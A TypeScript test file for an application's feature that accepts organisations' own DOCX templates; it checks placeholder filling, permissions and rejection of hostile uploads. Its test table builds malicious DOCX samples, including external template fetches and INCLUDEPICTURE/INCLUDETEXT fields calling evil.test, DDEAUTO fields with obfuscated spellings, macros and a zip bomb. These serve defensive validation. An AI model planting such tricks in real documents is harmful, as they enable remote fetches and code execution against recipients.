import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { writeDocx } from '#documents/docx/writeDocx.ts'
import type { Page, Person } from '#test/journeys/driver/person.ts'
import { aWorld, type World } from '#test/journeys/driver/world.ts'
import { canOpen, openPdf } from './opened.ts'
import { printAll } from './opening.ts'

let world: World
let dora: Person
let nora: Person
let system: Page

beforeAll(async () => {
  world = await aWorld()
  dora = await world.person('Dora', 'documentOwner')
  nora = await world.person('Nora', 'employee')
  const purpose = 'Sorts claims {title} <w:p/> & answers\nfor people'
  system = await dora.among('ai-systems').raises({ title: 'ClaimSight', owner: dora.id, purpose, role: ['deployer'] })
})
afterAll(() => world.close())

/** A DOCX as a person would type it: our own writer makes the file around the words. */
async function docx(...lines: readonly string[]): Promise<Uint8Array> {
  return writeDocx({
    title: 'House paper',
    subject: 'Template',
    organization: 'x',
    language: 'en',
    at: '2026-01-01T00:00:00.000Z',
    marks: [],
    foot: '',
    pageWords: { page: 'Page', of: 'of' },
    branding: { name: 'x', logo: null, primary: '#0b5246', header: '', footer: '' },
    blocks: lines.map((text) => ({ kind: 'paragraph' as const, text })),
  })
}

type Parts = Record<string, Uint8Array>

/** The same with its parts changed. */
function changed(file: Uint8Array, change: (parts: Parts) => Parts): Uint8Array {
  return zipSync(change(unzipSync(file)))
}

async function brings(person: Person, file: Uint8Array, type = 'aiSystem') {
  const answer = await fetch(`${world.address}/api/v1/own-templates?type=${type}&name=House%20paper`, {
    method: 'POST',
    headers: { authorization: `Bearer ${person.token}`, 'meliora-file-name': 'paper.docx' },
    body: new Uint8Array(file),
  })
  const body = (await answer.json()) as { id: string; words: string[]; refusals?: { code: string }[] }
  return { status: answer.status, body, codes: body.refusals?.map(({ code }) => code) }
}

async function filled(id: string, ref: string, person = nora) {
  const answer = await fetch(`${world.address}/api/v1/own-templates/${id}/filled?ref=${ref}&language=en`, {
    headers: { authorization: `Bearer ${person.token}` },
  })
  return {
    status: answer.status,
    name: answer.headers.get('content-disposition'),
    file: new Uint8Array(await answer.arrayBuffer()),
  }
}

describe('a template of the organization’s own', () => {
  test.skipIf(!canOpen)(
    'is filled with a record’s facts as words, never as markup or as further words, and opens elsewhere',
    async () => {
      const brought = await brings(
        dora,
        await docx(
          '{number} is {title}, at {stage}.',
          'Purpose: {purpose}',
          'Class: {tier}',
          'By {owner} for {organization}, {trailHead}',
        ),
      )
      expect([brought.status, brought.body.words]).toEqual([
        201,
        ['number', 'title', 'stage', 'purpose', 'tier', 'owner', 'organization', 'trailHead'],
      ])
      const { status, name, file } = await filled(brought.body.id, system.number!)
      expect(status).toBe(200)
      expect(name).toContain(`${system.number} House paper.docx`)
      const said = openPdf(printAll({ 'filled.docx': file })['filled.docx']!).text
      for (const line of [
        `${system.number} is ClaimSight, at Identified.`,
        'Purpose: Sorts claims {title} <w:p/> & answers',
        'Class: –',
        'By Dora for Harbour Test',
      ])
        expect(said).toContain(line)
      expect(said).toMatch(/\d+:[0-9a-f]{64}/)
    },
  )

  test('lists every line of rows', async () => {
    const { body } = await dora.asks('GET', '/own-templates/words?type=scopeStatement')
    const rows = (body.items as unknown as { word: string; of?: { word: string }[] }[]).find(({ of }) => of)!
    const inner = rows.of![0]!.word
    const { status, body: made } = await brings(
      dora,
      await docx(`{#${rows.word}}`, `* {${inner}}`, `{/${rows.word}}`),
      'scopeStatement',
    )
    expect(status).toBe(201)
    const scope = await dora.among('scope-statements').raises({ title: 'Scope', [rows.word]: [] })
    expect((await filled(made.id, scope.id)).status).toBe(200)
  })

  test('asking for what is not known, or for nothing, or with a list left open, is refused with a sentence', async () => {
    const unknown = await brings(dora, await docx('{title} {salary} {__proto__} {constructor}'))
    expect([unknown.status, unknown.codes]).toEqual([400, ['template_unknown_words']])
    expect((await brings(dora, await docx('Always the same'))).codes).toContain('template_asks_nothing')
    expect((await brings(dora, await docx('{#oversight} {title}'))).codes).toEqual(['template_unreadable'])
  })

  const part = (name: string, text: string) => (parts: Parts) => ({ ...parts, [name]: strToU8(text) })
  const outside =
    '<Relationships><Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>'
  const hidden = outside.replace('Id="rId1"', 'Id="a>b"').replace('External', 'E&#120;ternal')
  const wide = (name: string, text: string) => (parts: Parts) => ({
    ...parts,
    [name]: new Uint8Array(Buffer.from(`\ufeff${text}`, 'utf16le')),
  })
  const typed = (tag: string) => (parts: Parts) => ({
    ...parts,
    '[Content_Types].xml': strToU8(strFromU8(parts['[Content_Types].xml']!).replace('</Types>', `<${tag}/></Types>`)),
  })
  const hostile: readonly (readonly [string, string, (parts: Parts) => Parts])[] = [
    ['macros', 'template_runs_code', part('word/vbaProject.bin', 'x')],
    ['an embedded object', 'template_runs_code', part('word/embeddings/a.xlsx', 'x')],
    ['a control', 'template_runs_code', part('word/activeX/activeX1.xml', '<x/>')],
    ['a template fetched from elsewhere', 'template_reaches_out', part('word/_rels/settings.xml.rels', outside)],
    [
      'a field that fetches, cut in two',
      'template_reaches_out',
      into(
        '<w:p><w:r><w:instrText>INCLUDEPIC</w:instrText></w:r><w:r><w:instrText>TURE "http://evil.test"</w:instrText></w:r></w:p>',
      ),
    ],
    [
      'a field that starts something',
      'template_reaches_out',
      into('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\x"/></w:p>'),
    ],
    ['a template fetched by a reference half hidden', 'template_reaches_out', part('word/_rels/a.xml.rels', hidden)],
    ['relations in another encoding', 'template_not_docx', wide('word/_rels/settings.xml.rels', outside)],
    [
      'a field that starts something, in other quotes',
      'template_reaches_out',
      into("<w:p><w:fldSimple w:instr='&#68;DEAUTO c:'/></w:p>"),
    ],
    [
      'a field that fetches, under another prefix, behind another field',
      'template_reaches_out',
      into(`<w:p xmlns:q="urn:q">${field('q:', 'PAGE')}${field('q:', 'INCLUDETEXT "http://evil.test"')}</w:p>`),
    ],
    [
      'a field put together by others',
      'template_reaches_out',
      into(`<w:p>${field('w:', field('w:', 'QUOTE 68'))}</w:p>`),
    ],
    [
      'a database to merge from',
      'template_reaches_out',
      part('word/settings.xml', '<w:settings><w:mailMerge/></w:settings>'),
    ],
    ['a picture that is markup', 'template_not_docx', typed('Default Extension="png" ContentType="x/header+xml"')],
    [
      'entities that grow',
      'template_not_docx',
      part('word/document.xml', '<!DOCTYPE x [<!ENTITY a "b">]><w:document/>'),
    ],
    ['no document inside', 'template_not_docx', ({ 'word/document.xml': _, ...parts }) => parts],
  ]
  test.each(hostile)('with %s is refused', async (_, code, change) => {
    const answer = await brings(dora, changed(await docx('{title}'), change))
    expect([answer.status, answer.codes]).toEqual([400, [code]])
  })

  test('that unpacks beyond every bound, or weighs too much, is refused before it is unpacked', async () => {
    const heavy = [0, 1, 2, 3].map((at) => [`word/media/${at}.xml`, new Uint8Array(9 * 1024 * 1024)])
    const bomb = changed(await docx('{title}'), (parts) => ({ ...parts, ...Object.fromEntries(heavy) }))
    expect(bomb.length).toBeLessThan(200_000)
    expect(await brings(dora, bomb)).toMatchObject({ status: 413, codes: ['template_too_large'] })
    expect(await brings(dora, new Uint8Array(3 * 1024 * 1024))).toMatchObject({ status: 413 })
    expect((await brings(dora, strToU8('PK nothing'))).codes).toEqual(['template_not_docx'])
  })

  test('is brought by who looks after documents; nobody fills it with what they may not see; withdrawn it is gone', async () => {
    expect((await brings(nora, await docx('{title}'))).status).toBe(403)
    expect((await brings(dora, await docx('{title}'), 'nothing')).status).toBe(404)
    const { body } = await brings(dora, await docx('{title}'))
    expect((await filled(body.id, 'AIS-2026-9999')).status).toBe(404)
    expect((await nora.asks('DELETE', `/own-templates/${body.id}`)).status).toBe(403)
    expect((await dora.asks('DELETE', `/own-templates/${body.id}`)).status).toBe(204)
    expect((await filled(body.id, system.number!)).status).toBe(404)
  })
})

function field(prefix: string, code: string): string {
  const turn = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`
  const said = code.startsWith('<') ? code : `<w:r><${prefix}instrText>${code}</${prefix}instrText></w:r>`
  return `${turn('begin')}${said}${turn('end')}`
}

function into(markup: string): (parts: Parts) => Parts {
  return (parts) => {
    const text = strFromU8(parts['word/document.xml']!).replace('<w:body>', `<w:body>${markup}`)
    return { ...parts, 'word/document.xml': strToU8(text) }
  }
}
